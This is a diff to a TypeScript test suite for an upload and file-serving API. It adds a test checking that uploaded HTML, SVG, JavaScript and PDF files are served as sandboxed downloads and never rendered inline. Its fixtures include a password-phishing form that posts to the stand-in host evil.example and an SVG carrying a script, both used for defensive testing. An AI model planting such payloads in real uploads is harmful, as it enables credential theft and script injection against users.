@@ -8,14 +8,15 @@ import { copyOfTemplate } from './rig/database.ts'
 import { administrator, member, type Person } from './rig/person.ts'
 import { photograph } from './rig/photograph.ts'
 import { shared } from './rig/shared.ts'
+import { storeFile } from './rig/upload.ts'
 
 const drawing = idOf('art', 'cover-base-camp.svg')
 let picture: string
 let person: Person
 
-async function upload(token: string, file: Blob, name: string, folder?: string): Promise<string> {
+async function upload(token: string, file: Blob, name: string, folder: string): Promise<string> {
   const form = new FormData()
-  if (folder) form.append('folder', folder)
+  form.append('folder', folder)
   form.append('file', file, name)
   const headers = { authorization: `Bearer ${token}` }
   const reply = await fetch(`${shared().url}/files`, { method: 'POST', headers, body: form })
@@ -97,7 +98,8 @@ test('who has a picture hears that it is still that one', async () => {
 })
 
 test('what somebody handed in is shown to nobody else, in no size', async () => {
-  const evidence = await upload(person.token, photograph(400, 300), 'evidence.png')
+  const content = await photograph(400, 300).arrayBuffer()
+  const evidence = await storeFile(person, 'evidence.png', 'image/png', content)
   const other = await member()
   for (const query of ['', '?key=xs', '?key=system-small-cover']) {
     expect((await ask(evidence, query, asMember())).status).toBe(200)
@@ -117,6 +119,25 @@ test('a picture of the library says what it will look like before it is there', 
   const { width, height, metadata } = await facts()
   expect([width, height]).toEqual([1800, 900])
   expect(metadata.preview?.length).toBeLessThan(600)
+})
+
+test('what people upload is not run, not taken for something else, and shown only where it is made of pixels', async () => {
+  const content = await photograph(40, 30).arrayBuffer()
+  const files: [name: string, type: string, content: string | ArrayBuffer, shown: boolean][] = [
+    ['ridge.png', 'image/png', content, true],
+    ['page.html', 'text/html', '<form action="https://evil.example"><input name="password"></form>', false],
+    ['drawing.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', false],
+    ['module.js', 'text/javascript', 'alert(1)', false],
+    ['page.pdf', 'application/pdf', '%PDF-1.4 page', false],
+    ['shouting.html', 'TEXT/HTML', '<p>x</p>', false],
+  ]
+  for (const [name, type, bytes, isShown] of files) {
+    const { status, headers } = await ask(await storeFile(person, name, type, bytes), '', asMember())
+    expect([name, status]).toEqual([name, 200])
+    expect(headers.get('x-content-type-options')).toBe('nosniff')
+    expect(headers.get('content-security-policy')).toBe("default-src 'none'; sandbox")
+    expect([name, headers.get('content-disposition')?.split(';')[0]]).toEqual([name, isShown ? 'inline' : 'attachment'])
+  }
 })
 
 test('what the team sets about sizes afterwards stays so', async () => {
